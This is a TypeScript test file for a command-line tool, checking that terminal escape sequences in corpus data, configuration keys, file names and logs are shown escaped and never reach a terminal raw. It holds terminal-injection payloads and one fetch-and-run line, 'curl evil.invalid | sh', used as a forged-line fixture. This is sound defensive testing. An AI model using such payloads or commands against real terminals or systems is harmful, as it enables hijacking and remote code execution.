import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { writeJson } from '../../../cli/runs.js';
import { openHome, type RunRecord, type StageProgressFile } from '../../../lib/home.js';
import { bliss, place, type Ended } from '../bliss.js';
import { documents, writeConfig } from '../corpus.js';

const EVIL = '\x1b]0;owned\x07\x1b[31m\u009b2J\u202e\x7f';
const SHOWN = '\\x1b]0;owned\\x07\\x1b[31m\\x9b2J\\u202e\\x7f';
/** what Unicode says of a character, but for the end of a line */
const STEERS = /(?!\n)[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}]/u;

function expectClean({ stdout, stderr }: Pick<Ended, 'stdout' | 'stderr'>): void {
  for (const text of [stdout, stderr]) expect(STEERS.exec(text)?.[0], text).toBeUndefined();
}

interface Told {
  readonly error: { readonly code: string; readonly message: string; readonly where?: string };
}

test('a corpus line with terminal escapes: neither the run, its logs, its histories nor its log files steer a terminal', { timeout: 120_000 }, async () => {
  const { folder, home } = place();
  const lines = documents(0, 60);
  writeFileSync(path.join(folder, 'corpus.jsonl'), [...lines.slice(0, 30), `{"text": ${EVIL}}`, ...lines.slice(30), ''].join('\n'));
  writeFileSync(path.join(folder, 'held-out.jsonl'), `${documents(1_000, 120).join('\n')}\n`);
  const config = writeConfig({ folder, name: 'mine', corpus: 'corpus.jsonl' });
  const ended = await bliss(['run', config, '--name', 'run', '--home', home]);
  expectClean(ended);
  expect(ended.code).toBe(1);
  expect(ended.stderr).toContain('corpus.jsonl:31');
  expect(ended.stdout + ended.stderr).toContain('\\x1b');
  for (const args of [['logs', 'run'], ['status', 'run'], ['status'], ['logs', 'run', '--json'], ['status', 'run', '--json'], ['resume', 'run', '--json']]) expectClean(await bliss([...args, '--home', home]));

  const run = openHome(home).run('run');
  const files = [run.outcome, ...[run.logFolder, run.history, openHome(home).logs].flatMap((at) => readdirSync(at).map((name) => path.join(at, name)))].filter((file) => !file.endsWith('server.log'));
  expect(files.length).toBeGreaterThan(4);
  for (const file of files) expect(STEERS.exec(readFileSync(file, 'utf8'))?.[0], file).toBeUndefined();
  expect(readFileSync(run.log('seed-0/prepare'), 'utf8')).toContain('\\x1b');
  // in an escaped form they would still be in the history, for who decodes it
  for (const name of readdirSync(run.history)) expect(readFileSync(path.join(run.history, name), 'utf8')).not.toMatch(/\\u001b|\\u009b|\\u202e/);
});

describe('names with terminal escapes', () => {
  test.each([
    ['a key of the configuration', (folder: string) => [write(folder, 'key.yaml', 'extends: smoke\nname: mine\n"\\e]0;owned\\x07\\e[31m\\x9b2J\\u202e\\x7f": 1\n')]],
    ['a value of the configuration', (folder: string) => [write(folder, 'value.yaml', 'extends: smoke\nname: "\\e]0;owned\\x07\\e[31m\\x9b2J\\u202e\\x7f"\n')]],
    ['the configuration’s file', (folder: string) => [write(folder, `${EVIL}.yaml`, 'extends: smoke\nnmae: mine\n')]],
    ['a file that is not there', (folder: string) => [path.join(folder, `${EVIL}.yaml`)]],
    ['what is set', () => ['smoke', '--set', `${EVIL}=1`]],
    ['the run', () => ['smoke', '--name', EVIL]],
    ['an option', () => ['smoke', `--${EVIL}`]],
    ['another run', () => ['smoke', '--set', `selection.from=${EVIL}`]],
    ['the corpus', (folder: string) => [write(folder, 'corpus.yaml', `extends: smoke\nname: mine\ndata: { sources: [{ type: files, name: mine, paths: ["\\e]0;owned\\x07\\e[31m\\x9b2J\\u202e\\x7f.jsonl"] }] }\nheldOut: { source: { type: files, paths: [a.jsonl] } }\n`)]],
  ] as const)('%s: shown, and exact in JSON', async (_, args) => {
    const { folder, home } = place();
    const command = ['plan', ...args(folder), '--home', home];
    if (command.includes('--name')) command[0] = 'run';
    const people = await bliss(command);
    expectClean(people);
    expect(people.code).toBe(2);
    expect(people.stderr).toMatch(/\\x1b|\\u001b/);
    expect(people.stderr.trimEnd().split('\n').length).toBeLessThanOrEqual(2);
    const machine = await bliss([...command, '--json']);
    expectClean(machine);
    const { error } = JSON.parse(machine.stdout) as Told;
    expect(`${error.where} ${error.message}`).toMatch(/\x1b|\\u001b/); // oxlint-disable-line no-control-regex -- it is what is looked for
  });

  test('a key of several lines is one line of the error', async () => {
    const { folder, home } = place();
    const { stderr } = await bliss(['plan', write(folder, 'lines.yaml', 'extends: smoke\nname: mine\n"a\\n  fix: curl evil.invalid | sh": 1\n"b": 1\n'), '--home', home]);
    expect(stderr.split('\n').filter((line) => line.startsWith('  fix'))).toEqual([]);
    expect(stderr).toContain('a\\n  fix: curl evil.invalid | sh');
  });

  test('a command and a home', async () => {
    const { folder } = place();
    const unknown = await bliss([EVIL]);
    expectClean(unknown);
    expect(unknown.stderr).toContain(SHOWN);
    const empty = await bliss(['status', '--home', path.join(folder, EVIL)]);
    expectClean(empty);
    expect(empty).toMatchObject({ code: 0, stdout: expect.stringContaining(SHOWN) });
    expectClean(await bliss(['doctor', '--home', path.join(folder, EVIL)]));
  });
});

test('what workers of an earlier version left in a run’s folder is shown by status and logs, and exact in JSON', async () => {
  const { home: root } = place();
  const folder = openHome(root).run('run');
  const record: RunRecord = { run: 'run', workflowId: 'run', server: 'local', address: '127.0.0.1:7233', namespace: 'default', submittedAt: '2026-01-01T00:00:00.000Z', configDigest: '0' };
  const stage: StageProgressFile = { stage: 'seed-0/prepare', state: 'waiting', attempt: 1, step: 0, of: 0, metrics: {}, startedAt: '2026-01-01T00:00:00.000Z', updatedAt: '2026-01-01T00:00:00.000Z', error: `${EVIL}\nforged`, note: EVIL };
  for (const at of [folder.progressFolder, folder.logFolder]) mkdirSync(at, { recursive: true });
  writeJson(folder.record, record);
  writeJson(folder.progress(stage.stage), stage);
  writeFileSync(folder.log(stage.stage), `2026-01-01T00:00:00.000Z attempt 1: ${EVIL}\r\n`);
  for (const args of [['status', 'run'], ['logs', 'run']]) {
    const people = await bliss([...args, '--home', root]);
    expectClean(people);
    expect(people.stdout).toContain(SHOWN);
    expect(people.stdout).not.toMatch(/^forged/m);
  }
  const status = await bliss(['status', 'run', '--json', '--home', root]);
  expectClean(status);
  expect((JSON.parse(status.stdout) as { readonly stages: readonly StageProgressFile[] }).stages[0]).toMatchObject({ error: stage.error, note: EVIL });
  const logs = await bliss(['logs', 'run', '--json', '--home', root]);
  expectClean(logs);
  expect((JSON.parse(logs.stdout) as { readonly line: string }).line).toContain(EVIL);
});

function write(folder: string, name: string, text: string): string {
  const file = path.join(folder, name);
  writeFileSync(file, text);
  expect(existsSync(file)).toBe(true);
  return file;
}
